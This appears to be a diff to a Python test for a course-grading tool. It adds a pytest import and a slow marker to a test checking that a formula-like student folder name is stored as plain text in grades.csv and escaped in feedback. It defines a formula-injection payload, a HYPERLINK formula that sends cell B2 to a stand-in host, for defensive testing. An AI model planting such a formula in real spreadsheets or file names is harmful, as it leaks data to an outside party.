@@ -6,12 +6,15 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pytest
+
 from .fixtures.grading_course import dense_course, fixture_paths, submitted  # noqa: F401
 
 # The issue's id, but for its "//": a folder name cannot hold a "/" (collect.py renames it).
 FORMULA = '=HYPERLINK("evil.example?"&B2,"x")'
 
 
+@pytest.mark.slow  # a whole grading run, or a process that must time out
 def test_a_formula_folder_name_is_text_in_grades_csv_and_escaped_in_feedback(dense_course, tmp_path):
     """Graded by the command line, is a student folder named like a formula written to
     grades.csv as text (a leading quote, not a live formula) and shown escaped in its
